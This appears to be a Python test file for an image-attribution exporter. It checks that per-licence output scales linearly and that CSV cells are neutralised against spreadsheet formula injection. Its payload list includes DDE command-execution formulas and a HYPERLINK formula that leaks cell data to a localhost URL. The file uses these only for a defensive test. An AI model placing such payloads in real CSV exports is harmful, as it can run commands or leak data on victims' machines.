"""Issue 28, ATTRIBUTION under hostile lists: one distinct licence per image must cost
time linear in the images (the page was written by re-reading the whole CSV once per
licence: 56 s for 4,000 images), and no cell of ATTRIBUTION.csv may run as a formula in
a spreadsheet."""

from __future__ import annotations

import csv
import html
import re
import time
from pathlib import Path

from benchmarks.attribution import make_download
from tests.conftest import run_cli


def test_one_licence_per_image_is_linear(tmp_path: Path) -> None:
    n = 6000  # about 2 minutes before; a second or two now
    out = make_download(tmp_path, n, distinct=True)
    began = time.monotonic()
    res = run_cli("annotations", out, "--format", "attribution", timeout=120)
    took = time.monotonic() - began
    assert res.returncode == 0, res.stderr
    assert took < 30, took
    with open(out / "annotations" / "ATTRIBUTION.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == n and len({r["License"] for r in rows}) == n
    page = (out / "annotations" / "ATTRIBUTION.html").read_text()
    sections = re.findall(r'<h2 id="licence-\d+"><a href="([^"]+)"[^>]*>[^<]*</a>: 1 image</h2>\n<ol>\n<li>.*?<code>([^<]+)</code>',
                          page)
    # Every licence has its section, holding exactly its own image.
    assert {lic: loc for lic, loc in sections} == {r["License"]: r["Location"] for r in rows}


FORMULAS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|" /C calc"!A0', '=HYPERLINK("http://127.0.0.1/?leak="&A1,"x")',
            "+1+1", "-2+3", "=1+1", "plain title", "a = b"]


def test_formula_cells_are_neutralised(tmp_path: Path) -> None:
    n = len(FORMULAS)

    def credit(k: int) -> tuple[str, str, str]:
        return FORMULAS[k], FORMULAS[(k + 1) % n], FORMULAS[(k + 2) % n]

    out = make_download(tmp_path, n, distinct=True, credit=credit)
    res = run_cli("annotations", out, "--format", "attribution")
    assert res.returncode == 0, res.stderr
    with open(out / "annotations" / "ATTRIBUTION.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == n
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for r in rows:
        k = next(k for k in range(n) if r["Title"].lstrip("'") == FORMULAS[k])
        for column, text in zip(("Title", "Author", "License"), credit(k), strict=True):
            assert r[column] == ("'" + text if text[0] in "=+-@" else text)
    # The page shows the texts as they are (escaped, never run).
    page = (out / "annotations" / "ATTRIBUTION.html").read_text()
    for text in FORMULAS:
        assert html.escape(text) in page
